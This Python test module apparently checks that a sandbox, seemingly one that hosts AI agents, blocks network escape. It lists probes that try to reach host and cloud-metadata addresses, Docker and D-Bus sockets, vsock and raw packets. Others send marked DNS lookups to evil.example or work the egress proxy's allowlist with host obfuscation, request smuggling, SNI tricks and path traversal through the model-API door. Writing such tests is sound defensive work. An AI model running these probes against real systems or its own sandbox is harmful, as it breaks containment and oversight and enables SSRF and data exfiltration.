"""Attacks that want out over the network: past the walls, and past the allowlist of the proxy."""

# ruff: noqa: E501 -- what is written in tables and in programs reads best as it is

from __future__ import annotations

import asyncio

from attack import Attack, Stage, nothing, trying
from network import Net, open_gateway, open_gateway_but_no_door, open_network

from fabrik.testing.conformance.harness import Ran

_SOCKETS = """
import os, socket
def port(name): return int(os.environ[name])
HERE, ADDRESS, MARK = '127.0.0.1', os.environ['ADDRESS'], os.environ['MARK'].encode()
def tcp(host, number):
    with socket.create_connection((host, number), 3) as s: s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); assert s.recv(99)
def udp(host, number, answered=False):
    with socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.connect((host, number))
        s.send(QUESTION if answered else MARK)
        assert not answered or s.recv(999)
QUESTION = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(MARK)]) + MARK + b'\\4evil\\7example\\0\\0\\1\\0\\1'
"""

# ask: a proxy's answer to raw bytes. tell: DONE for each request that brought what is not allowed.
_PROXY = (
    _SOCKETS
    + """
F, A = os.environ.get('FORBIDDEN'), os.environ.get('ALLOWED')
def ask(raw, more=b'', door='PROXY'):
    with socket.create_connection((HERE, port(door)), 30) as s:
        s.settimeout(30)
        answer = b''
        try:
            s.sendall(raw if isinstance(raw, bytes) else raw.encode('utf-8'))
            if more:
                answer = s.recv(65536)
                s.sendall(more)
            s.shutdown(socket.SHUT_WR)
            while data := s.recv(65536): answer += data
        except OSError: pass
        return answer
def tell(raw, more=b'', door='PROXY'):
    answer = ask(raw, more, door)
    print('DONE' if b'DONE' in answer else 'no:', repr(raw)[:80], answer[:150])
def get(target, *headers): return '\\r\\n'.join(['GET ' + target + ' HTTP/1.1', 'host: x', *headers, 'connection: close', '', ''])
def connect(target): return 'CONNECT ' + target + ' HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n\\r\\n'
INNER = b'GET / HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n\\r\\n'
print('WORKS' if b'ALLOWED' in ask(get('http://localhost:' + A + '/')) else 'the proxy does not work')
"""
)
_END = "\nprint('TRIED')\n"

_HOSTS = (
    "127.0.0.1", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "2130706433",
    "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "127.0.0.01", "127.1", "127.0.1", "127.0.0.1.",
    "127.0.0.2", "localhost", "LOCALHOST", "localhost.", "%6cocalhost", "localhost%00", "localhost%2f.evil",
    "[::1%25lo]", "[::1%lo]", "１２７.0.0.1", "127。0。0。1", "ⓛocalhost", "[64:ff9b::127.0.0.1]", "[2002:7f00:1::]",
    "evil@localhost", "localhost:80@localhost", "localhost\\t", "localhost\\\\@evil", "ip6-localhost", "a.localhost",
)  # fmt: skip


def _tried(_: Stage, ran: Ran) -> None:
    """A datagram to an own loopback is fine; what the host's ear heard is looked at anyway."""
    assert "TRIED" in ran.text, ran.err


def _answered(stage: Stage, ran: Ran) -> None:
    """The proxy led to the allowed place, to no other one, and told of the tries."""
    nothing()(stage, ran)
    assert "WORKS" in ran.text, f"the proxy was not tried: {ran.text[:500]} {ran.err[:500]!r}"
    assert isinstance(stage.net, Net)
    assert stage.net.refused(), "nothing was recorded"
    assert {decision.host for decision in stage.net.egress if decision.allowed} == {"localhost"}


async def _stands(stage: Stage, ran: Ran) -> None:
    """After a flood: other steps are served, and the ledger is not full of it."""
    nothing()(stage, ran)
    assert isinstance(stage.net, Net)
    assert len(stage.net.refused()) < 600
    reader, writer = await asyncio.open_unix_connection(str(stage.net.other))
    writer.write(b"CONNECT evil.example:443 HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")
    async with asyncio.timeout(20):
        assert (await reader.read()).startswith(b"HTTP/1.1 403")
    writer.transport.abort()


def _through(program: str) -> str:
    return _PROXY + program + _END


ATTACKS = [
    Attack(
        name="connect_to_the_host", in_the_open=True, before=open_network, held=nothing(),
        program=trying([f"tcp({host}, port('FORBIDDEN'))" for host in (
            "HERE", "'127.0.0.2'", "'0.0.0.0'", "'::1'", "'::'", "'::ffff:127.0.0.1'", "ADDRESS", "'localhost'",
            "'host.docker.internal'", "'host.containers.internal'", "'10.0.2.2'", "'169.254.1.2'", "'172.17.0.1'",
        )], _SOCKETS),
    ),
    Attack(
        name="send_datagrams_to_the_host", in_the_open=True, before=open_network, held=_tried,
        program=trying([f"udp({host}, port('UDP'))" for host in (
            "HERE", "ADDRESS", "'255.255.255.255'", "'127.255.255.255'", "'224.0.0.1'", "'::ffff:127.0.0.1'",
            "'10.0.2.2'", "'172.17.0.1'",
        )], _SOCKETS),
    ),
    Attack(
        name="ask_name_servers", before=open_network, held=nothing(),
        program=trying([
            *(f"udp('{host}', 53, answered=True)" for host in (
                "127.0.0.53", "127.0.0.1", "127.0.0.11", "10.0.2.3", "169.254.169.253", "8.8.8.8", "1.1.1.1",
                "2001:4860:4860::8888",
            )),
            "tcp('8.8.8.8', 53)", "tcp('1.1.1.1', 853)", "tcp('127.0.0.53', 53)", "tcp('127.0.0.11', 53)",
            "socket.getaddrinfo(MARK.decode() + '.evil.example', 80)", "socket.getaddrinfo('example.com', 80)",
            "socket.gethostbyaddr('8.8.8.8')",
            "[udp(l.split()[1], 53, answered=True) for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]",
        ], _SOCKETS),
    ),
    Attack(
        name="reach_the_internet", before=open_network, held=nothing(),
        program=trying([
            "tcp('1.1.1.1', 80)", "tcp('8.8.8.8', 443)", "tcp('169.254.169.254', 80)", "tcp('2606:4700:4700::1111', 80)",
            "tcp('100.100.100.200', 80)", "tcp('168.63.129.16', 80)", "tcp('fd00:ec2::254', 80)",
        ], _SOCKETS),
    ),
    Attack(
        name="send_raw_packets", before=open_network, held=nothing(),
        program=trying([
            "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)", "socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 3)",
            "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)",
            "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
            "socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)",
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('8.8.8.8', 0))",
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', (ADDRESS, 0))"
            " if not ADDRESS.startswith('127.') else 1/0",
            "os.open('/dev/net/tun', os.O_RDWR)", "os.open('/dev/vhost-net', os.O_RDWR)",
            "os.open('/dev/vhost-vsock', os.O_RDWR)", "os.open('/dev/ppp', os.O_RDWR)",
        ], _SOCKETS),
    ),
    Attack(
        name="talk_to_a_hypervisor", before=open_network, held=nothing(),
        program=trying(
            [f"socket.socket(40, {kind}).connect(({cid}, {number}))" for kind in (1, 2, 5) for cid, number in
             ((2, 1024), (0, 1), (1, 1), (2, 22))] + ["os.open('/dev/vsock', os.O_RDWR)"], _SOCKETS,
        ),
    ),
    Attack(
        name="change_the_network", before=open_network, held=nothing(),
        program=_SOCKETS + trying([
            "ask(16, 0x605, LINK + attribute(3, b'esc0') + attribute(18, attribute(1, b'dummy')))",
            "ask(16, 0x605, LINK + attribute(3, b'esc1') + attribute(18, attribute(1, b'veth')))",
            "ask(20, 0x605, struct.pack('=BBBBI', 2, 24, 0, 0, 1) + attribute(2, bytes([10, 9, 8, 7])))",
            "ask(24, 0x605, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 253, 1, 0) + attribute(4, b'\\1\\0\\0\\0'))",
            "assert [name for _, name in socket.if_nameindex() if name not in"
            " ('lo', 'tunl0', 'sit0', 'gre0', 'gretap0', 'erspan0', 'ip_vti0', 'ip6_vti0', 'ip6tnl0', 'ip6gre0')]",
            "open('/proc/sys/net/ipv4/ip_forward', 'w').write('1')",
            "open('/proc/sys/net/ipv4/conf/all/route_localnet', 'w').write('1')",
        ], """
import os, socket, struct
LINK = struct.pack('=BBHiII', 0, 0, 0, 0, 0, 0)
def attribute(kind, content):
    whole = struct.pack('=HH', 4 + len(content), kind) + content
    return whole + b'\\0' * (-len(whole) % 4)
def ask(kind, flags, body):
    with socket.socket(16, 3, 0) as s:
        s.settimeout(3)
        s.send(struct.pack('=IHHII', 16 + len(body), kind, flags, 1, 0) + body)
        code = struct.unpack('=i', s.recv(9999)[16:20])[0]
        assert code == 0, os.strerror(-code)
"""),
    ),
    Attack(
        name="connect_to_abstract_sockets", in_the_open=True, before=open_network, held=nothing(),
        program=trying([
            "socket.socket(socket.AF_UNIX).connect('\\0' + os.environ['ABSTRACT'])",
            "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(MARK, '\\0' + os.environ['ABSTRACT'])",
            "assert os.environ['ABSTRACT'] in open('/proc/net/unix').read()",
        ], _SOCKETS),
    ),
    Attack(
        name="connect_to_sockets_in_files", in_the_open=True, before=open_gateway, held=nothing(),
        program=trying([
            "socket.socket(socket.AF_UNIX).connect(os.environ['SOCKET'])",
            "socket.socket(socket.AF_UNIX).connect('/proc/1/root' + os.environ['SOCKET'])",
            "socket.socket(socket.AF_UNIX).connect(os.environ['DOOR'])",
            "socket.socket(socket.AF_UNIX).connect('/proc/' + os.environ['WORKER'] + '/root' + os.environ['DOOR'])",
            *(f"socket.socket(socket.AF_UNIX).connect('{place}')" for place in (
                "/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/dbus/system_bus_socket",
                "/run/systemd/private", "/run/containerd/containerd.sock", "/run/libvirt/libvirt-sock", "/dev/log",
                "/run/user/0/bus", "/run/nscd/socket", "/tmp/.X11-unix/X0",
            )),
        ], _SOCKETS),
    ),
    Attack(
        name="reach_a_door_that_was_not_opened", in_the_open=True, before=open_gateway_but_no_door, held=nothing(),
        program=trying([
            "tcp(HERE, port('PROXY'))", "tcp(HERE, port('MODELS'))", "tcp('::1', port('PROXY'))",
            "socket.socket(socket.AF_UNIX).connect(os.environ['DOOR'])",
        ], _SOCKETS),
    ),
    Attack(
        name="write_hosts_in_another_way", before=open_gateway, held=_answered,
        program=_through(f"for host in {_HOSTS!r}:\n"
        "    tell(connect(host + ':' + F), INNER)\n    tell(get('http://' + host + ':' + F + '/'))\n"),
    ),
    Attack(
        name="ask_for_metadata_and_private_networks", before=open_gateway, held=_answered,
        program=_through("""
for host in ('169.254.169.254', '[fd00:ec2::254]', 'metadata.google.internal', '100.100.100.200', '168.63.129.16',
             '[::ffff:169.254.169.254]', '0xa9fea9fe', '2852039166', '0251.0376.0251.0376', '169.254.43518',
             '10.0.0.1', '192.168.0.1', '172.17.0.1', '100.64.0.1', ADDRESS, '224.0.0.1', '[fe80::1]', '[fc00::1]'):
    for target in (host + ':80', host + ':' + F, host + ':' + A):
        answer = ask(get('http://' + target + '/latest/meta-data/'))
        print('no:' if answer.startswith((b'HTTP/1.1 403', b'HTTP/1.1 400')) else 'DONE', target, answer[:99])
"""),
    ),
    Attack(
        name="hide_one_host_in_another", before=open_gateway, held=_answered,
        program=_through("""
for target in ('http://localhost:' + A + '@localhost:' + F + '/', 'http://localhost:' + F + '#@localhost:' + A + '/',
               'http://localhost:' + F + '?@localhost:' + A, 'http://localhost:' + F + '\\\\@localhost:' + A + '/',
               'http://localhost:' + A + '%40localhost:' + F + '/', 'http://localhost:' + F + '/@localhost:' + A + '/',
               'http://user:' + A + '@localhost:' + F + '/', 'http://localhost:' + A + '\\t@localhost:' + F + '/'):
    tell(get(target))
for line in ('CONNECT localhost:%s@localhost:%s', 'CONNECT localhost:%s\\r\\nCONNECT localhost:%s',
             'CONNECT localhost:%s localhost:%s', 'CONNECT localhost:%s\\0localhost:%s', 'CONNECT localhost:%s,localhost:%s'):
    tell(line % (A, F) + ' HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n\\r\\n', INNER)
    tell(line % (F, A) + ' HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n\\r\\n', INNER)
tell(get('http://localhost:' + A + '/', 'host: localhost:' + F, 'x-forwarded-host: evil', 'x-original-url: http://evil/'))
tell('GET http://localhost:' + A + '/ HTTP/1.1\\r\\nhost: evil.example\\r\\nconnection: close\\r\\n\\r\\n')
tell(get('http://localhost:' + F + '/', 'x: localhost:' + A))
"""),
    ),
    Attack(
        name="smuggle_a_request", before=open_gateway, held=_answered,
        program=_through("""
HIDDEN = 'GET http://localhost:' + F + '/evil HTTP/1.1\\r\\nhost: evil\\r\\nconnection: close\\r\\n\\r\\n'
POST = 'POST http://localhost:' + A + '/ HTTP/1.1\\r\\nhost: x\\r\\n'
for header in ('content-length: 4\\r\\ntransfer-encoding: chunked', 'transfer-encoding: chunked\\r\\ncontent-length: 4',
               'transfer-encoding: chunked\\r\\ntransfer-encoding: identity', 'transfer-encoding:\\r\\n chunked\\r\\ncontent-length: 3',
               'transfer-encoding: xchunked', 'transfer-encoding : chunked', 'content-length: 0\\r\\ncontent-length: 9',
               'content-length: 0', 'x: y\\rtransfer-encoding: chunked', 'connection: content-length\\r\\ncontent-length: 9'):
    tell(POST + header + '\\r\\n\\r\\n0\\r\\n\\r\\n' + HIDDEN)
tell(connect('localhost:' + F) + HIDDEN)
tell(POST + 'content-length: 0\\r\\n\\r\\n' + connect('localhost:' + F), INNER)
tell('GET http://localhost:' + A + '/\\x20HTTP/1.1\\r\\nhost:\\x20evil\\r\\n\\r\\n HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')
"""),
    ),
    Attack(
        name="tunnel_to_other_ports", before=open_gateway, held=_answered,
        program=_through("""
for number in (F, '22', '25', '53', '80', '443', '465', '587', '853', '2375', '3306', '5432', '6379', '6443', '0', '65536',
               '-1', '+' + F, '0' + F, F + '/' + A, hex(int(F))):
    answer = ask(connect('localhost:' + number), INNER)
    print('no:' if answer.startswith((b'HTTP/1.1 403', b'HTTP/1.1 400')) else 'DONE', number, answer[:99])
"""),
    ),
    Attack(
        name="be_led_elsewhere_by_a_redirect", before=open_gateway, held=_answered,
        program=_through("""
answer = ask(get('http://localhost:' + A + '/elsewhere'))
assert answer.startswith(b'HTTP/1.1 302'), answer
import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:' + os.environ['PROXY']}))
try:
    print('DONE', opener.open('http://localhost:' + A + '/elsewhere', timeout=5).read())
except OSError as e:
    print('no:', e)
"""),
    ),
    Attack(
        name="ask_tls_for_another_server", before=open_gateway, held=_answered,
        program=_through("""
import ssl
def hello(name):
    context = ssl.create_default_context()
    context.check_hostname = False
    sent = ssl.MemoryBIO()
    try: context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: return sent.read()
for name in ('evil.example', 'localhost.evil.example', None):
    message = hello(name)
    split = b''.join(b'\\x16\\x03\\x01\\0\\1' + bytes([byte]) for byte in message[5:])
    for shape in (message, split):
        answer = ask(connect('localhost:' + A), shape)
        print('DONE' if b'ALLOWED' in answer else 'no:', name, answer[:99])
"""),
    ),
    Attack(
        name="tunnel_names_through_the_proxy", before=open_gateway, held=_answered,
        program=_through("""
for target in ('dns.google:443', 'cloudflare-dns.com:443', '1.1.1.1:443', '8.8.8.8:53', '9.9.9.9:853', 'one.one.one.one:853',
               MARK.decode() + '.evil.example:443', MARK.decode() + '.localhost:' + A, 'localhost.' + MARK.decode() + ':' + A):
    answer = ask(connect(target), QUESTION)
    print('no:' if answer.startswith((b'HTTP/1.1 403', b'HTTP/1.1 400')) else 'DONE', target, answer[:99])
"""),
    ),
    Attack(
        name="use_the_door_to_models_as_a_proxy", before=open_gateway, held=nothing(),
        program=_through("""
for target in ('http://localhost:' + F + '/', '/http://localhost:' + F + '/', '/anthropic/../../localhost:' + F + '/',
               '/anthropic/v1/@localhost:' + F + '/', '//localhost:' + F + '/', '/openai/v1/%2e%2e/%2e%2e/x',
               '/gemini//localhost:' + F + '/v1beta/models'):
    tell(get(target, 'host: localhost:' + F), door='MODELS')
tell(connect('localhost:' + F), INNER, door='MODELS')
"""),
    ),
    Attack(
        name="flood_the_proxy", before=open_gateway, held=_stands,
        program=_through("""
held = []
for _ in range(400):
    try: held.append(socket.create_connection((HERE, port('PROXY')), 30)); held[-1].sendall(b'GET http://x/ HTTP/1.1\\r\\nx: ')
    except OSError: break
del held
with socket.create_connection((HERE, port('PROXY')), 30) as s:
    s.settimeout(30)
    try:
        for number in range(900):
            s.sendall(b'CONNECT h%d.evil.example:443 HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n' % number)
            if not s.recv(4096): break
    except OSError as e: print('no:', e)
for raw in (b'GET http://' + b'a' * 2_000_000, b'GET http://x/ HTTP/1.1\\r\\n' + b'x: y\\r\\n' * 200_000, b'\\0' * 1_000_000): ask(raw)
"""),
    ),
]  # fmt: skip
